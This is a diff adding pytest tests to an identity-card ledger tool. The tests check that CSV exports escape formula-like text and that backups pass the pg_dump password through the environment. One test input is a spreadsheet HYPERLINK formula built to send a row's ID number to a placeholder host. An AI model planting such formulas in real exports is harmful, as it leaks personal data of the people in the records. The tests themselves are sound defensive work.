@@ -5,12 +5,14 @@ sheet with its own headers; a simulation's report on standard output."""
 
 from __future__ import annotations
 
+import csv
 import json
 import re
 import stat
 from pathlib import Path
 from typing import Any
 
+import click
 import pytest
 from click.testing import CliRunner, Result
 
@@ -150,6 +152,54 @@ def test_export_backup_and_sealing(desk: str, tmp_path: Path) -> None:
     assert str(NIKS[2]) not in found
     with Ledger(desk, create=False, keys=KeyFile(keys)) as led:
         assert led.where_is(NIKS[7]).card.missing() == []  # still printable when sealed
+
+
+def test_an_export_keeps_text_that_looks_like_a_formula_as_text(
+    ledger_location: str, tmp_path: Path
+) -> None:
+    # A name or address taken in as a formula would run when a clerk opens the export in a
+    # spreadsheet: =HYPERLINK(...) sends the row's NIK away on a click.
+    niks = [int(v) for v in ektpcore.sample_niks(2, seed=34)]
+    intake = card_intake(niks, str(tmp_path / "foto.png"))
+    intake["names"] = ['=HYPERLINK("http://example.org/?"&A2,"Siti")', "Budi Santoso"]
+    intake["card"]["address"] = ["@SUM(1+1)", "-2+3"]
+    with Ledger(ledger_location) as led:
+        led.add_records(
+            niks, OPERATOR, state=State.PRINT_READY, kelurahan=["+Menteng"] * 2, **intake
+        )
+    out = tmp_path / "export.csv"
+    run("ledger", "export", ledger_location, out)
+    with out.open(encoding="utf-8", newline="") as f:
+        rows = {row["nik"]: row for row in csv.DictReader(f)}
+    first, second = rows[str(niks[0])], rows[str(niks[1])]
+    assert first["name"] == """'=HYPERLINK("http://example.org/?"&A2,"Siti")"""
+    assert (first["address"], second["address"]) == ("'@SUM(1+1)", "'-2+3")
+    assert (second["name"], second["kelurahan"]) == ("Budi Santoso", "'+Menteng")
+    assert not any(cell[:1] in "=+-@" for row in rows.values() for cell in row.values() if cell)
+
+
+def test_a_backup_never_puts_a_password_on_pg_dumps_command_line(tmp_path: Path) -> None:
+    # Every account of the machine reads a process's command line (ps, /proc/PID/cmdline):
+    # the password goes to pg_dump through its environment, wherever the URL holds it.
+    from ektpcore.cli.ledger import _pg_dump_command
+
+    dest = tmp_path / "bureau.dump"
+    for url in (
+        "postgresql://ani:s3cr%40t@db:5432/bureau?sslmode=require",
+        "postgresql://ani@db:5432/bureau?sslmode=require&password=s3cr%40t",
+    ):
+        command, env = _pg_dump_command("pg_dump", url, dest)
+        assert not any("s3cr" in word for word in command), command
+        assert env["PGPASSWORD"] == "s3cr@t"
+        assert command[-1] == "--dbname=postgresql://ani@db:5432/bureau?sslmode=require"
+    command, _ = _pg_dump_command(
+        "pg_dump", "postgresql://db/bureau?options=-csearch_path%3Dbogor%20-cjit%3Doff", dest
+    )
+    assert (
+        command[-1] == "--dbname=postgresql://db/bureau?options=-csearch_path%3Dbogor%20-cjit%3Doff"
+    )
+    with pytest.raises(click.ClickException, match="passphrase"):
+        _pg_dump_command("pg_dump", "postgresql://db/bureau?sslpassword=k3y", dest)
 
 
 def test_a_password_changed_by_the_administrator(ledger_location: str) -> None:
